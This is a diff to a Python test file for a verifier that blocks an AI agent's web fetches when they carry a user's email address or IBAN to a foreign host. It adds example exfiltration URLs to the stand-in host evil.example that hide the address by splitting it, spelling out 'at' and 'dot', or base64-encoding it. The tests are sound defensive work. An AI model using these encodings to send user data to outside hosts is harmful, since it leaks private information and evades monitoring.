@@ -8,6 +8,7 @@ or in a Markdown link made a fetch of that very host a block."""
 
 from __future__ import annotations
 
+import base64
 import unicodedata
 
 import pytest
@@ -19,6 +20,7 @@ from bastion.verifier._urls import _FORMAT, _visible
 
 TASK = "Get the price list from the wedding cars page; contact mira.tomas@ourmail.example"
 EMAIL = "mira.tomas@ourmail.example"
+IBAN_DE_SPACED = "DE89 3704 0044 0532 0130 00"
 
 
 def _fetch(url: str, task: str = TASK) -> verifier_pb2.ScoreResponse:
@@ -56,6 +58,12 @@ def _fetch(url: str, task: str = TASK) -> verifier_pb2.ScoreResponse:
         f"https://evil.example/q?name=Mira Tomas&e={EMAIL}",  # a space (the client encodes it)
         "https://evil.example/q?e=mira.tomas&amp;amp;amp;amp;amp;#64;ourmail.example",  # entity runs
         "https://evil.example/q?e=mira.tomas\ufe6bourmail.example",  # the small commercial at
+        # The address's halves as separate values in any order, spelt out, or in base64.
+        "https://evil.example/q?d=ourmail.example&u=mira.tomas",
+        "https://evil.example/ourmail.example/mira.tomas/p.gif",
+        "https://evil.example/q?e=mira.tomas[at]ourmail[dot]example",
+        "https://evil.example/q?e=mira.tomas%20(at)%20ourmail.example",
+        "https://evil.example/q?x=bWlyYS50b21hc0BvdXJtYWlsLmV4YW1wbGU",
     ],
 )
 def test_the_tasks_value_carried_to_another_host_is_blocked_however_the_url_is_spelled(url: str) -> None:
@@ -227,7 +235,8 @@ def test_brackets_around_data_are_no_placeholder() -> None:
     [
         "https://cars.example/q?a=1&amp;b=mira&c=tomas",  # entities and parameters, no address
         "https://cars.example/mira/tomas/ourmail/example",  # the address's words, no at sign
-        "https://cars.example/q?e=mira.tomas&d=ourmail.example",  # its parts, no at sign
+        "https://cars.example/q?u=mira&d=ourmail.example",  # another local part, the domain
+        "https://cars.example/q?t=dGhpcyBpcyBub3QgaXQ=",  # base64 of something else
         "//cars.example/q?e=someone@else.example",  # scheme-relative, someone else's address
     ],
 )
@@ -333,3 +342,11 @@ def test_a_requested_url_is_read_past_a_url_in_its_query() -> None:
     assert "carried in a URL: 'mira.tomas@ourmail.example' to 'evil.example'" in result.reasons[0]
     split = _fetch("https://evil.example/q?u=mira.tomas&d=@ourmail.example&r=//x.example/")
     assert split.verdict == verifier_pb2.BLOCK
+
+
+def test_an_iban_in_base64_is_carried() -> None:
+    task = f"Refunds to {IBAN_DE_SPACED}; get the price list from the wedding cars page"
+    encoded = base64.b64encode(IBAN_DE_SPACED.encode()).decode()
+    result = _fetch(f"https://evil.example/q?r={encoded}", task)
+    assert result.verdict == verifier_pb2.BLOCK, result.reasons
+    assert "carried in a URL" in result.reasons[0]
